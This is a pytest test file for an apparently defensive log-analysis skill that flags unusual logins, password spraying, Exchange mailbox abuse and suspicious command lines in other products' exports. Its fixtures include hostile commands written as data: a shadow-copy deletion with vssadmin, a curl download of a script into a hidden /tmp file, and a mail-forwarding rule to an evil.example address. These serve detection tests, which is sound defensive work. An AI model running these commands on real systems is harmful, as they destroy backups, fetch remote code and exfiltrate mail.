"""Other products' exports: each kind is read, its story found, its coverage exact."""

from __future__ import annotations

import io
import json
import re

import msgspec
import pytest

from svc.assistant.file_types.identify import identify
from svc.assistant.findings import Coverage, Finding, Severity
from svc.assistant.skills.events.answer import SECTION
from svc.assistant.skills.events.product_alerts import severity_of
from svc.assistant.skills.events.tool import inspect
from tests.support.evidence_kinds import KINDS, EvidenceKind, iso, lines, table
from tests.support.openings import opening
from tests.support.sampling import sampled

CLAIMED = SECTION.skill.claims


def run(content: bytes) -> list[object]:
    return list(inspect(io.BytesIO(content), source="export"))


def findings(content: bytes, *kinds: str) -> list[Finding]:
    return [item for item in run(content) if isinstance(item, Finding) and (not kinds or item.kind in kinds)]


def coverage(content: bytes) -> Coverage:
    [found] = [item for item in run(content) if isinstance(item, Coverage)]
    return found


@pytest.mark.parametrize("kind", KINDS.values(), ids=KINDS)
def test_the_story_of_every_kind_of_export_is_found(kind: EvidenceKind):
    _, content = kind.evidence()
    found = findings(content, *filter(None, [kind.expect]))
    text = str([msgspec.to_builtins(one) for one in found]).lower()
    assert found
    assert [word for word in kind.words if word.lower() not in text] == []


@pytest.mark.parametrize("kind", KINDS.values(), ids=KINDS)
def test_every_kind_of_export_is_read_to_its_end_and_claimed(kind: EvidenceKind):
    name, content = kind.evidence()
    covered = coverage(content)
    assert covered.understood == covered.total > 0
    assert covered.looked_for
    assert identify(content[:65_536], name)[1] in CLAIMED


@pytest.mark.parametrize("kind", sampled(KINDS.values(), 20), ids=KINDS)
def test_damage_is_counted_and_never_raises(kind: EvidenceKind):
    _, content = kind.evidence()
    for damaged in (content[: len(content) // 2], content + b"\x00\xff{broken,\n", content.replace(b"2026", b"20x6")):
        covered = coverage(damaged)
        assert covered.total >= covered.understood >= 0


def logins(rows: list[tuple[str, str, str]]) -> bytes:
    return table(["time", "user", "src", "result"], ((*row, "success") for row in rows))


def test_a_login_from_a_new_source_is_unusual():
    rows = [(iso(n * 3_600), "ann", "192.0.2.7") for n in range(9)]
    [found] = findings(logins([*rows, (iso(90_000), "ann", "203.0.113.9")]), "unusual_login")
    assert (found.facts.account, found.facts.source, found.facts.record) == ("ann", "203.0.113.9", 11)
    assert found.facts.reasons == ["new source for the account"]
    assert found.facts.usual_sources == ["192.0.2.7"]
    assert found.severity is Severity.LOW


def test_a_source_that_the_account_goes_on_using_is_not_unusual():
    rows = [(iso(n * 3_600), "ann", "192.0.2.7" if n < 9 else "192.0.2.8") for n in range(18)]
    assert findings(logins(rows), "unusual_login") == []


def test_too_few_logins_say_nothing_about_what_is_usual():
    assert findings(logins([(iso(n), "ann", f"192.0.2.{n}") for n in range(5)]), "unusual_login") == []


def test_an_hour_without_other_logins_is_unusual_if_there_are_enough_days():
    rows = [(f"2026-11-{day:02}T{hour:02}:00:00Z", "ann", "192.0.2.7") for day in range(1, 9) for hour in (8, 9, 10)]
    odd = ("2026-11-09T02:30:00Z", "ann", "192.0.2.7")
    [found] = findings(logins([*rows, odd]), "unusual_login")
    assert found.facts.reasons == ["the account's only login around 02:00"]
    assert findings(logins([*rows[:9], odd]), "unusual_login") == []


def test_the_verdict_answers_which_logins_are_unusual():
    rows = [(iso(n * 3_600), "ann", "192.0.2.7") for n in range(9)]
    found = findings(logins([*rows, (iso(90_000), "ann", "203.0.113.9")]))
    assert SECTION.verdict(found).startswith("**1 unusual login**: unusual login of ann from 203")
    assert "Columns read: `time=time`, `source address=src`, `user=user`, `outcome=result`." in opening(SECTION, found)


def test_a_logon_is_named_without_what_its_table_does_not_have():
    found = findings(table(("time", "src", "user", "result"), [(iso(0), "198.51.100.9", "ann", "success")]), "logon")
    assert [one.title for one in found] == ["ann logged on from 198.51.100.9, once"]


def test_the_accepted_logins_of_a_table_are_named():
    verdict = SECTION.verdict(findings(logins([(iso(n * 3_600), "ann", "192.0.2.7") for n in range(9)])))
    assert verdict.startswith("**9 remote logons were accepted**: `ann` from `192[.]0[.]2[.]7` (9).")


def test_a_table_of_ordinary_logins_without_sources_says_that_none_failed():
    content = table(["time", "user", "result"], ((iso(n * 3_600), "ann", "success") for n in range(9)))
    verdict = SECTION.verdict(findings(content))
    assert verdict.startswith("**No rule applies** to these events (0 of ")
    assert " 9 logons of 1 account; none failed." in verdict


def test_password_spraying_in_a_table_is_named():
    rows = [(iso(n), f"user{n}", "203.0.113.9", "failure") for n in range(20)]
    [found] = findings(table(["time", "user", "src", "result"], rows), "logon_source")
    assert (found.facts.pattern, found.facts.failures) == ("password spraying", 20)


@pytest.mark.parametrize(
    ("level", "severity"),
    [
        ("critical", Severity.HIGH), ("crit", Severity.HIGH), ("high", Severity.HIGH), ("medium", Severity.MEDIUM),
        ("low", Severity.LOW), ("info", Severity.INFO), ("informational", Severity.INFO), ("strange", Severity.LOW),
    ],
)  # fmt: skip
def test_another_products_rating_is_never_critical(level, severity):
    assert severity_of(level) is severity


def test_alerts_are_counted_by_name_and_rating():
    rows = [(iso(n), "Port scan", "low", "ws-1") for n in range(5)] + [(iso(9), "Ransomware", "critical", "ws-2")]
    found = findings(table(["time", "alert_name", "severity", "host"], rows), "product_alert")
    assert [(one.facts.alert, one.facts.count, one.severity) for one in found] == [
        ("Ransomware", 1, Severity.HIGH),
        ("Port scan", 5, Severity.LOW),
    ]
    assert "**1 alert rated medium or higher**: `Ransomware` (critical)" in SECTION.verdict(found)


def test_a_failed_action_is_no_detection():
    row = {"CreationTime": "2026-11-20T02:00:00", "Operation": "New-InboxRule", "UserId": "ann@corp.example",
           "Workload": "Exchange", "Parameters": [{"Name": "ForwardTo", "Value": "drop@evil.example"}]}  # fmt: skip
    [done] = findings(lines([row | {"ResultStatus": "True"}, row | {"ResultStatus": "Failed"}]), "rule_hit")
    assert (done.severity, done.facts.count) == (Severity.HIGH, 1)
    assert findings(lines([row | {"ResultStatus": "Failed"}]), "rule_hit") == []


def test_a_detection_in_a_log_of_a_service_says_who_acted_and_from_where():
    rows = [
        {"CreationTime": f"2026-11-20T02:0{n}:00", "Operation": "Add-MailboxPermission", "UserId": user,
         "Workload": "Exchange", "ClientIP": "203.0.113.7",
         "Parameters": [{"Name": "AccessRights", "Value": "FullAccess"}]}
        for n, user in enumerate(["ann@corp.example", "bob@corp.example", "ann@corp.example"])
    ]  # fmt: skip
    [found] = findings(lines(rows), "rule_hit")
    assert found.facts.accounts == ["ann@corp.example", "bob@corp.example"]
    assert (found.facts.addresses, found.facts.actions) == (["203.0.113.7"], ["Add-MailboxPermission"])
    [alone] = findings(lines(rows[:1]), "rule_hit")
    [fact] = [one for one in SECTION.facts([alone]) if "Exchange mailbox permission granted" in one]
    assert "(medium), by `ann[@]corp[.]example` from `203[.]0[.]113[.]7`, 2026-11-20 02:00:00 UTC" in fact


COMMAND = "vssadmin delete shadows /all /quiet"
COMMAND_TABLES = {
    "command only": table(["time", "host", "command_line"], [(iso(n), "ws-1", COMMAND) for n in range(2)]),
    "name and arguments": table(
        ["time", "host", "process", "cmd"], [(iso(n), "ws-1", "vssadmin.exe", COMMAND) for n in range(2)]
    ),
    "parent and child": table(
        ["ts", "device", "image", "cmdline", "parent_process"],
        [(iso(n), "ws-1", r"C:\Windows\System32\vssadmin.exe", COMMAND, "cmd.exe") for n in range(2)],
    ),
    "nested": lines(
        {"@timestamp": iso(n), "host": {"name": "ws-1"}, "process": {"command_line": COMMAND, "name": "vssadmin.exe"}}
        for n in range(2)
    ),
}


@pytest.mark.parametrize("content", COMMAND_TABLES.values(), ids=COMMAND_TABLES)
def test_rules_run_on_command_lines_in_tables(content):
    [hit] = findings(content, "rule_hit")
    assert "shadow" in hit.title.lower()
    assert hit.facts.count == 2


def test_a_table_of_linux_commands_gets_the_rules_of_linux():
    rows = [(iso(n), "web-3", "ann", "/usr/bin/curl -o /tmp/.x http://203.0.113.9/x.sh") for n in range(3)]
    content = table(["time", "host", "user", "command"], rows)
    assert "detection rules describe" in coverage(content).looked_for
    assert findings(content, "rule_hit")


BINARY = {"EVTX header": b"ElfFile\x00" + bytes(4_088), "noise": bytes(range(256)) * 20, "empty": b""}


@pytest.mark.parametrize("content", BINARY.values(), ids=BINARY)
def test_what_cannot_be_read_is_not_examined(content):
    assert coverage(content).understood == 0


def test_lines_that_are_no_events_count_in_the_total():
    good = "Nov 20 10:00:00 web-3 systemd[1]: Started x."
    covered = coverage(lines([good] * 9 + ["what is this"] * 3))
    assert (covered.read_as, covered.unit, covered.understood, covered.total) == ("syslog", "line", 9, 12)


def test_events_outside_the_time_of_day_are_not_looked_into():
    rows = [json.dumps({"EventID": 4634, "Channel": "Security", "@timestamp": f"2026-11-20T{hour:02}:00:00Z"})
            for hour in range(10)]  # fmt: skip
    [covered] = [
        item
        for item in inspect(io.BytesIO("\n".join(rows).encode()), source="x", after="05:00")
        if isinstance(item, Coverage)
    ]
    assert (covered.understood, covered.total) == (5, 10)


def test_the_list_of_what_was_looked_for_names_the_rules_that_apply():
    covered = coverage(lines([{"EventID": 4625, "Channel": "Security", "TargetUserName": "a", "Computer": "DC1"}]))
    assert re.match(r"what [\d,]+ of [\d,]+ detection rules describe, password attacks", covered.looked_for)
    assert covered.not_covered == ""
